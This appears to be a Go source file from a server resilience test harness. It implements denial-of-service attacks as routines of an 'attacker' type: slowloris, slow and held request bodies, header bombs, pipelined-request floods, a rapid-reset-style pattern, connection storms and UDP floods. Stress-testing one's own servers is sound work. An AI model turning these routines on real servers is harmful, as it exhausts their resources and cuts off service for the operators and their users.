//go:build linux

package main

import (
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

func request(path string) string { return "GET " + path + " HTTP/1.1\r\nHost: a\r\n\r\n" }

// pipeline is a segment full of requests.
func pipeline(path string) []byte {
	one := request(path)
	return []byte(strings.Repeat(one, 64<<10/len(one)))
}

// pipelineUnread sends one segment of pipelined requests and reads no answer.
func pipelineUnread(path string) func(a *attacker) error {
	return func(a *attacker) error {
		return a.each(1, func(c net.Conn) {
			a.write(c, pipeline(path))
			a.wait()
		})
	}
}

// pipelineRead sends requests without end, and reads the answers.
func pipelineRead(path string) func(a *attacker) error {
	return func(a *attacker) error {
		return a.each(8, func(c net.Conn) {
			go drop(c)
			a.repeat(c, pipeline(path))
		})
	}
}

// pipelineLeave sends a segment of requests and leaves, again and again. This is the relative of
// HTTP/2's rapid reset.
func pipelineLeave(leave func(c net.Conn)) func(a *attacker) error {
	return func(a *attacker) error {
		segment := pipeline("/10k")
		return a.again(4, func(c net.Conn) {
			a.write(c, segment)
			leave(c)
		})
	}
}

func tinyChunks(a *attacker) error {
	post := []byte("POST /10 HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n" +
		strings.Repeat("1\r\nx\r\n", 100_000) + "0\r\n\r\n")
	return a.each(4, func(c net.Conn) {
		go drop(c)
		a.repeat(c, post)
	})
}

func headerBomb(lines, bytes int) func(a *attacker) error {
	return func(a *attacker) error {
		var head strings.Builder
		head.WriteString("GET /10 HTTP/1.1\r\nHost: a\r\n")
		for i := range lines - 1 {
			fmt.Fprintf(&head, "x-%06d: %s\r\n", i, strings.Repeat("x", bytes-12))
		}
		head.WriteString("\r\n")
		return a.again(4, func(c net.Conn) {
			defer reset(c)
			go drop(c)
			a.repeat(c, []byte(head.String()))
		})
	}
}

// headerBytes sends one large header byte by byte.
func headerBytes(a *attacker) error {
	head := []byte("GET /10 HTTP/1.1\r\nHost: a\r\nx: " + strings.Repeat("x", 16_000) + "\r\n\r\n")
	return a.each(16, func(c net.Conn) {
		go drop(c)
		for !a.over() {
			for i := range head {
				if !a.write(c, head[i:i+1]) {
					return
				}
			}
		}
	})
}

func slowloris(a *attacker) error {
	return a.crowd(a.size(2000, 300), 10, []byte("GET /10 HTTP/1.1\r\nHost: a\r\nx: "+strings.Repeat("x", 1000)))
}

// slowBodies sends bodies, one byte per second.
func slowBodies(a *attacker) error {
	const head = "POST /10 HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"
	return a.crowd(a.size(2000, 300), len(head), []byte(head+strings.Repeat("x", 1000)))
}

// heldBodies sends bodies that have all but the last bytes of a legal size.
func heldBodies(a *attacker) error {
	p := []byte("POST /10 HTTP/1.1\r\nHost: a\r\nContent-Length: 3000000\r\n\r\n" + strings.Repeat("x", 2_900_000))
	return a.each(a.size(400, 150), func(c net.Conn) {
		a.write(c, p)
		a.wait()
	})
}

// betweenRequests makes one request on each connection and stays.
func betweenRequests(a *attacker) error {
	p := request("/10")
	return a.crowd(a.size(2000, 300), len(p), []byte(p))
}

// unreadPages asks for a large page and reads nothing.
func unreadPages(connections, short int, head string) func(a *attacker) error {
	return func(a *attacker) error {
		return a.each(a.size(connections, short), func(c net.Conn) {
			c.(*conn).SetReadBuffer(4096)
			a.write(c, []byte(head))
			a.wait()
		})
	}
}

// idle opens connections and says nothing.
func idle(connections, short int) func(a *attacker) error {
	return func(a *attacker) error { return a.crowd(a.size(connections, short), 0, nil) }
}

// storm opens connections and leaves, as fast as it can.
func storm(leave func(c net.Conn)) func(a *attacker) error {
	return func(a *attacker) error {
		return a.again(4, func(c net.Conn) {
			a.write(c, []byte("x"))
			leave(c)
		})
	}
}

// floodUnread writes to an echo and reads nothing.
func floodUnread(a *attacker) error {
	p := make([]byte, 64<<10)
	return a.each(16, func(c net.Conn) { a.repeat(c, p) })
}

// datagramFlood sends small datagrams as fast as it can.
func datagramFlood(a *attacker) error {
	c, err := net.Dial("udp", a.addr)
	if err != nil {
		return err
	}
	defer c.Close()
	a.dials.Add(1)
	for p := make([]byte, 100); !a.over(); {
		if _, err := c.Write(p); err == nil {
			a.sent.Add(int64(len(p)))
		}
	}
	return nil
}

// command sends the mark of echoOr once on each connection.
func command(connections int) func(a *attacker) error {
	return func(a *attacker) error {
		return a.each(connections, func(c net.Conn) {
			a.write(c, []byte("!"))
			a.wait()
		})
	}
}

// commands sends the mark of echoOr again each time the server has answered.
func commands(connections int) func(a *attacker) error {
	return func(a *attacker) error {
		return a.each(connections, func(c net.Conn) {
			for p := make([]byte, 1); a.write(c, []byte("!")); {
				if _, err := io.ReadFull(c, p); err != nil {
					return
				}
			}
		})
	}
}

// leaveFull fills both ways of a connection through the proxy and leaves. The target writes
// without end and reads nothing.
func leaveFull(leave func(c net.Conn)) func(a *attacker) error {
	return func(a *attacker) error {
		return a.each(a.size(100, 20), func(c net.Conn) {
			defer leave(c)
			a.write(c, []byte("b")) // see targetMain
			// The way is full when nothing could be written for a while.
			for p := make([]byte, 64<<10); !a.over(); {
				c.SetWriteDeadline(time.Now().Add(300 * time.Millisecond))
				if !a.write(c, p) {
					return
				}
			}
		})
	}
}
